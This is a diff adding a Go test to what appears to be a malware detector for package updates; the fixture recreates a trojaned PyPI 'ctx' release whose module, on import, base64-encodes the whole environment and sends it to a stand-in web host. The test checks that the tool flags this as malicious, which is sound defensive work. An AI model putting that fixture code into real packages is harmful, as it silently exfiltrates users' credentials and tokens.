@@ -352,3 +352,27 @@ func TestRepositoryKey(t *testing.T) {
 		t.Errorf("a move to another owner must count as a change")
 	}
 }
+
+// TestPyPIModuleStealingTheEnvironmentIsMalicious: the shape of ctx 0.2.6
+// (May 2022): the package's only module, imported by its name, starts
+// sending the whole environment to a web server.
+func TestPyPIModuleStealingTheEnvironmentIsMalicious(t *testing.T) {
+	dir := t.TempDir()
+	base := map[string]string{
+		"PKG-INFO": "Metadata-Version: 2.1\nName: ctx\nVersion: 0.1.2\n",
+		"setup.py": "from setuptools import setup\nsetup(name='ctx', py_modules=['ctx'])\n",
+		"ctx.py":   "class Ctx(dict):\n    def __init__(self, *a, **kw):\n        super().__init__(*a, **kw)\n        self.__dict__ = self\n",
+	}
+	newer := with(base, "PKG-INFO", "Metadata-Version: 2.1\nName: ctx\nVersion: 0.2.6\n",
+		"ctx.py", "import os\nimport base64\nimport requests\n\nclass Ctx(dict):\n    def __init__(self, *a, **kw):\n        super().__init__(*a, **kw)\n        self.__dict__ = self\n        env = base64.b64encode(str(os.environ).encode()).decode()\n        requests.get('https://anti-theft.example/hacked/' + env)\n")
+	r, err := Paths(context.Background(), tarball(t, dir, "a.tar.gz", "ctx-0.1.2/", base), tarball(t, dir, "b.tar.gz", "ctx-0.2.6/", newer), Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.Verdict != finding.Malicious || !strings.Contains(strings.Join(r.Reasons, "\n"), "ctx.py") {
+		t.Errorf("verdict %s reasons %q, want malicious naming ctx.py", r.Verdict, r.Reasons)
+	}
+	if fc := fileChange(r, "ctx.py"); fc == nil || fc.Role != "import-time" {
+		t.Errorf("ctx.py = %+v, want import-time", fc)
+	}
+}
